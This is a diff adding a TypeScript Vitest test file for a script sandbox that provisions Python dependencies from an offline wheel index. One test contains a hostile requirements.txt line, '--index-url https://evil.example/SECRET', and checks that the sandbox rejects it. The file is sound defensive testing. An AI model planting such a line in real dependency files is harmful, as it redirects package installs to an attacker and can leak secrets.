@@ -1,0 +1,110 @@
+import { execFileSync } from 'node:child_process'
+import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { SkillHostError } from '../../src/common/errors.js'
+import {
+  createScriptSandbox,
+  runSkillScript,
+  type ScriptSandbox,
+  scriptInterpreters,
+} from '../../src/tiers/scripts/index.js'
+import { buildProbeWheel } from '../helpers/probe-wheel.js'
+import { files, onLinux, script } from '../sandbox/helpers.js'
+
+const PYTHON = scriptInterpreters().python3?.[0]
+
+const PEP723 = [
+  '# /// script',
+  '# dependencies = ["skillhost-probe-pkg>=1"]',
+  '# ///',
+  'import sys, skillhost_probe_pkg',
+  'print(skillhost_probe_pkg.VALUE, sys.prefix)',
+].join('\n')
+
+async function run(sandbox: ScriptSandbox, body: Record<string, string>, path = 'p.py') {
+  const { workspace } = sandbox.config
+  const root = await workspace.materialize({ id: 'deps', version: '1' }, files(body))
+  try {
+    return await runSkillScript(sandbox.config, {
+      skill: 'deps',
+      root,
+      script: script({ path, interpreter: 'python3' }),
+      args: {},
+    })
+  } finally {
+    await workspace.dispose(root)
+  }
+}
+
+describe.skipIf(!onLinux || PYTHON === undefined)(
+  'script environments from an offline index (issue 23 part 2)',
+  () => {
+    let dir: string
+    let cacheDir: string
+    let plain: ScriptSandbox
+    let provisioned: ScriptSandbox
+    beforeAll(async () => {
+      dir = mkdtempSync(join(tmpdir(), 'skillhost-provision-'))
+      const wheels = join(dir, 'wheels')
+      execFileSync('mkdir', [wheels])
+      buildProbeWheel(PYTHON as string, wheels)
+      cacheDir = join(dir, 'envs')
+      plain = await createScriptSandbox()
+      provisioned = await createScriptSandbox({
+        provision: { cacheDir, index: { findLinks: wheels } },
+      })
+    }, 120_000)
+    afterAll(async () => {
+      await plain?.dispose()
+      await provisioned?.dispose()
+      rmSync(dir, { recursive: true, force: true })
+    })
+
+    it('without provisioning, a PEP 723 script missing its package is a typed error naming it', async () => {
+      let err: unknown
+      await run(plain, { 'p.py': PEP723 }).catch((e) => {
+        err = e
+      })
+      expect(SkillHostError.is(err, 'E_SKILL_SCRIPT_DEPS_MISSING')).toBe(true)
+      expect((err as SkillHostError).message).toContain('skillhost-probe-pkg')
+      expect((err as SkillHostError).message).toContain('skillhost env')
+      expect((err as SkillHostError).data).toEqual({ packages: ['skillhost-probe-pkg'] })
+    })
+
+    it('with provisioning, the script runs in an env built once and seen at a neutral path', async () => {
+      const r = await run(provisioned, { 'p.py': PEP723 })
+      expect(r.stderr).toBe('')
+      expect(r.stdout).toBe('from-the-wheel /opt/skillhost/env\n')
+      // The same set from requirements.txt reuses the env: one folder in the cache.
+      const again = await run(
+        provisioned,
+        {
+          'q.py': 'import skillhost_probe_pkg as p\nprint(p.VALUE)\n',
+          'requirements.txt': '# deps\nskillhost_probe_pkg >= 1\n',
+        },
+        'q.py',
+      )
+      expect(again.stdout).toBe('from-the-wheel\n')
+      const envs = readdirSync(cacheDir).filter((n) => !n.startsWith('.'))
+      expect(envs).toHaveLength(1)
+    }, 120_000)
+
+    it('a hostile requirement is refused by line number before anything runs', async () => {
+      let err: unknown
+      await run(
+        provisioned,
+        {
+          'q.py': 'print(1)\n',
+          'requirements.txt': 'ok-package\n--index-url https://evil.example/SECRET\n',
+        },
+        'q.py',
+      ).catch((e) => {
+        err = e
+      })
+      expect(SkillHostError.is(err, 'E_SKILL_REQUIREMENTS_INVALID')).toBe(true)
+      expect((err as Error).message).toBe('requirements.txt line 2: pip options are not accepted.')
+    })
+  },
+)
